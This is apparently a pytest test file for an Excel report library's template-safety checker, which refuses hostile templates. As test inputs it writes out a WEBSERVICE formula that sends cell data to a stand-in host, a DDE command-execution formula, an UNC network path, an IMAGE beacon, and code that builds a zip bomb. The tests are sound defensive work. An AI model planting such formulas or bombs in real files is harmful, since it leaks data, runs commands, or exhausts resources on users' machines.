"""Hostile report templates: links outside the workbook, web functions, DDE, anchors off the sheet, zip bombs.

Each template is the default one changed in one way with openpyxl or zipfile, so the only reason to refuse
it is the change. The checks read the template's raw package parts, not openpyxl's view of them.
"""

from __future__ import annotations

import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from openpyxl.workbook.defined_name import DefinedName

from clv_xl.errors import TemplateError
from clv_xl.report import build_report, default_template
from clv_xl.report.template import load_template
from clv_xl.report.template_safety import MAX_EXPANDED_BYTES, check_template_package
from clv_xl.sample_shop import sample_orders


def changed_template(tmp_path: Path, change: object, name: str = "template.xlsx") -> Path:
    """The default template with ``change(workbook)`` applied, saved by openpyxl."""
    wb = load_workbook(default_template())
    change(wb)  # type: ignore[operator]
    path = tmp_path / name
    wb.save(path)
    return path


def with_parts(tmp_path: Path, parts: dict[str, bytes], name: str = "template.xlsx") -> Path:
    """The default template's package with extra parts added by zipfile."""
    path = tmp_path / name
    with zipfile.ZipFile(default_template()) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        for part, data in parts.items():
            out.writestr(part, data)
    return path


def set_formula(cell: str, formula: str) -> object:
    def change(wb: object) -> None:
        wb["Dashboard"][cell] = formula  # type: ignore[index]
    return change


EXTERNAL_LINK = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
    b"<sheetNames><sheetName val=\"Sheet1\"/></sheetNames></externalBook></externalLink>"
)
EXTERNAL_LINK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
    b'externalLinkPath" Target="file:///\\\\fileserver\\share\\prices.xlsx" TargetMode="External"/>'
    b"</Relationships>"
)


HOSTILE = {
    "external workbook reference": (set_formula("Z1", "=[1]Sheet1!$A$1*2"), "another workbook ([1])"),
    "UNC path": (set_formula("Z2", "='\\\\fileserver\\share\\[prices.xlsx]Sheet1'!A1"), "network path"),
    "WEBSERVICE in a cell": (set_formula("Z3", '=WEBSERVICE("https://evil.example/?q="&C5)'), "calls WEBSERVICE"),
    "FILTERXML in a cell": (set_formula("Z4", '=FILTERXML("<a>1</a>","//a")'), "calls FILTERXML"),
    "DDE": (set_formula("Z5", "=cmd|' /C calc'!A0"), "DDE link"),
    "IMAGE from the web": (set_formula("Z6", '=IMAGE("https://evil.example/pixel.png")'), "calls IMAGE"),
}


@pytest.mark.parametrize("case", list(HOSTILE))
def test_formula_reaching_outside_is_refused(tmp_path: Path, case: str) -> None:
    change, words = HOSTILE[case]
    path = changed_template(tmp_path, change)
    with pytest.raises(TemplateError, match="reaches outside the workbook") as info:
        load_template(path)
    assert words in str(info.value)


def test_defined_name_calling_webservice_is_refused(tmp_path: Path) -> None:
    def change(wb: object) -> None:
        wb.defined_names["feed"] = DefinedName("feed", attr_text='WEBSERVICE("https://evil.example/")')  # type: ignore[attr-defined]

    with pytest.raises(TemplateError, match="defined name 'feed' calls WEBSERVICE"):
        load_template(changed_template(tmp_path, change))


def test_external_link_part_is_refused(tmp_path: Path) -> None:
    path = with_parts(tmp_path, {
        "xl/externalLinks/externalLink1.xml": EXTERNAL_LINK,
        "xl/externalLinks/_rels/externalLink1.xml.rels": EXTERNAL_LINK_RELS,
    })
    with pytest.raises(TemplateError) as info:
        load_template(path)
    message = str(info.value)
    assert "a link to another workbook (xl/externalLinks/externalLink1.xml)" in message
    assert "fileserver" in message  # the address it points to, named


def test_data_connection_is_refused(tmp_path: Path) -> None:
    path = with_parts(tmp_path, {"xl/connections.xml": b'<connections xmlns="x"><connection id="1"/></connections>'})
    with pytest.raises(TemplateError, match=r"data connections \(xl/connections.xml\)"):
        load_template(path)


def test_self_contained_formulas_are_accepted(tmp_path: Path) -> None:
    """Text that merely looks like a link, inside quotes, is not one."""
    path = changed_template(tmp_path, set_formula("Z1", '="[1] see WEBSERVICE( and \\\\server or a|b"&SUM(C5:C6)'))
    load_template(path)  # no error
    out = build_report(sample_orders(n_customers=200, months=6), tmp_path / "r.xlsx", template=path, forecast=False)
    assert out.is_file()


def test_the_report_never_reaches_outside(tmp_path: Path) -> None:
    """Hostile text in the data stays text: the report's package passes the same check as a template."""
    orders = sample_orders(n_customers=50, months=6)
    hostile = ['=WEBSERVICE("https://evil.example")', "=[1]Sheet1!A1", "=cmd|' /C calc'!A0", "\\\\srv\\share"]
    for position, text in enumerate(hostile):
        orders.loc[orders.index[position], "customer_id"] = text
    out = build_report(orders, tmp_path / "r.xlsx", forecast=False)
    check_template_package(out.read_bytes(), "the report")  # raises if anything reaches outside
    with zipfile.ZipFile(out) as package:
        names = package.namelist()
    assert not any(n.startswith(("xl/externalLinks/", "xl/connections", "xl/queryTables")) for n in names)


# --- anchors ------------------------------------------------------------------------------------------------------


def move_anchor(key: str, reference: str) -> object:
    def change(wb: object) -> None:
        wb.defined_names[key].attr_text = reference  # type: ignore[attr-defined]
    return change


ANCHORS = {
    "orders at XFC": ("anchor_orders", "Orders!$XFC$1", "before column XFD"),
    "customers at XFA": ("anchor_customers", "Customers!$XFA$1", "before column XFD"),
    "definitions on the last row": ("anchor_definitions", "Definitions!$B$1048576", "before row 1,048,576"),
    "kpis on the assumptions": ("anchor_kpis", "Dashboard!$C$4", "write over the assumption cell margin"),
    "what-if on the assumptions": ("anchor_whatif", "Dashboard!$B$9", "write over the assumption cell"),
}


@pytest.mark.parametrize("case", list(ANCHORS))
def test_anchor_off_the_sheet_or_on_the_assumptions_is_refused(tmp_path: Path, case: str) -> None:
    key, reference, words = ANCHORS[case]
    with pytest.raises(TemplateError, match=key) as info:
        load_template(changed_template(tmp_path, move_anchor(key, reference)))
    assert words in str(info.value)


def test_cli_refuses_a_bad_template_in_one_line(tmp_path: Path) -> None:
    template = changed_template(tmp_path, move_anchor("anchor_orders", "Orders!$XFC$1"))
    orders = tmp_path / "orders.csv"
    sample_orders(n_customers=50, months=6).to_csv(orders, index=False)
    proc = subprocess.run(
        [sys.executable, "-m", "clv_xl", "report", str(orders), "-o", str(tmp_path / "r.xlsx"), "--template",
         str(template)], capture_output=True, text=True, timeout=300,
    )
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and "anchor_orders" in lines[0] and "Traceback" not in proc.stderr
    assert not (tmp_path / "r.xlsx").exists()


# --- size ---------------------------------------------------------------------------------------------------------


def test_zip_bomb_template_is_refused_unread(tmp_path: Path) -> None:
    """About 1 MB on disk, 1 GB unpacked: refused from the zip directory, without inflating anything."""
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(default_template()) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for item in source.infolist():
            out.writestr(item, source.read(item))
        zeros = bytes(16 * 2**20)
        with out.open("xl/media/image1.png", "w", force_zip64=True) as part:
            for _ in range(64):
                part.write(zeros)
    assert path.stat().st_size < 3 * 2**20
    with pytest.raises(TemplateError, match=r"unpacks to 1,024 MB") as info:
        load_template(path)
    assert str(MAX_EXPANDED_BYTES // 2**20) in str(info.value)


def test_oversized_template_file_is_refused_unread(tmp_path: Path) -> None:
    path = tmp_path / "huge.xlsx"
    with path.open("wb") as handle:
        handle.write(default_template().read_bytes())
    os.truncate(path, 21 * 2**20)  # sparse: no 21 MB written
    with pytest.raises(TemplateError, match="larger than 20 MB"):
        load_template(path)


def test_many_parts_template_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as out:
        for i in range(2_001):
            out.writestr(f"xl/p{i}.bin", b"")
    path = tmp_path / "parts.xlsx"
    path.write_bytes(buffer.getvalue())
    with pytest.raises(TemplateError, match="2,001 parts"):
        load_template(path)
